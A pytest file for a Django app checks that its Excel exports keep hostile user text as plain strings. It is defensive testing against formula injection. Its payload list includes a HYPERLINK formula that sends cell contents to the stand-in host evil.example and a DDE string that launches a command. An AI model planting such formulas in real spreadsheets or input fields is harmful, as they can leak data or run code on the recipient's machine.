"""Every spreadsheet the product writes keeps user text as text, never a formula (issue 10.6)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from dudao.core.xlsx import append_row, stream_workbook, workbook_bytes
from dudao.testing import PASSWORD

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "#N/A",
    "=",
    "普通文字",
]


def _cells(data: bytes, sheet: str | None = None):
    wb = load_workbook(io.BytesIO(data))
    ws = wb[sheet] if sheet else wb.worksheets[0]
    return [cell for row in ws.iter_rows() for cell in row]


def _assert_text(cells, expected: list[str]) -> None:
    by_value = {c.value: c for c in cells if isinstance(c.value, str)}
    for text in expected:
        assert text in by_value, f"{text!r} 未按原文读回"
        assert by_value[text].data_type == "s", f"{text!r} 被写成了 {by_value[text].data_type}"
    assert not [c for c in cells if c.data_type == "f"]


def test_it_streams_hostile_text_as_text():
    data = b"".join(
        stream_workbook("导出", ["=表头", "说明"], [(t, i) for i, t in enumerate(HOSTILE)])
    )
    _assert_text(_cells(data), ["=表头", *HOSTILE])


def test_it_writes_hostile_text_as_text_in_memory():
    _assert_text(_cells(workbook_bytes("导出", ["内容"], [(t,) for t in HOSTILE])), HOSTILE)
    wb = Workbook()
    for text in HOSTILE:
        append_row(wb.active, [text, 1])
    buf = io.BytesIO()
    wb.save(buf)
    _assert_text(_cells(buf.getvalue()), HOSTILE)


def test_it_keeps_numbers_and_dates_as_they_are():
    data = workbook_bytes("导出", ["数"], [(-5,), (3.5,)])
    values = [c.value for c in _cells(data)][1:]  # row 1 is the sheet's title
    assert values == ["数", -5, 3.5]


def test_it_replaces_characters_xml_cannot_hold_instead_of_failing():
    data = workbook_bytes("导出", ["内容"], [("名称\x01带控制符",)])
    assert _cells(data)[2].value == "名称\ufffd带控制符"  # after the title and the header


@pytest.mark.django_db
def test_it_exports_a_unit_name_starting_with_equals_as_text(client, cast):
    from dudao.campaigns.models import Participation

    hostile = {
        cast.unit_a: '=HYPERLINK("http://evil.example","财政局")',
        cast.unit_b: "+教育局",
        cast.unit_c: "@档案馆",
    }
    for unit, name in hostile.items():
        Participation.objects.filter(unit=unit).update(unit_name=name)
    client.login(username="clerk", password=PASSWORD)
    response = client.get(f"/campaigns/{cast.campaign.pk}/overview/export.xlsx")
    assert response.status_code == 200
    data = b"".join(response.streaming_content)
    _assert_text(_cells(data), list(hostile.values()))


@pytest.mark.django_db
def test_it_lists_import_errors_with_hostile_cells_as_text(client, cast):
    from dudao.imports.models import ImportJob

    job = ImportJob.objects.create(
        kind="roster",
        uploaded_by=cast.user("office"),
        file_name="名册.xlsx",
        content=b"",
        sha256="0" * 64,
        status="invalid",
        errors=[
            {"sheet": "人员", "row": 2, "column": "姓名", "value": v, "message": "-不合格"}
            for v in ["=1+1", "-1", "@x", "+x"]
        ],
    )
    client.login(username="clerk", password=PASSWORD)
    response = client.get(f"/imports/jobs/{job.pk}/errors.xlsx")
    assert response.status_code == 200
    _assert_text(
        _cells(b"".join(response.streaming_content)), ["=1+1", "-1", "@x", "+x", "-不合格"]
    )
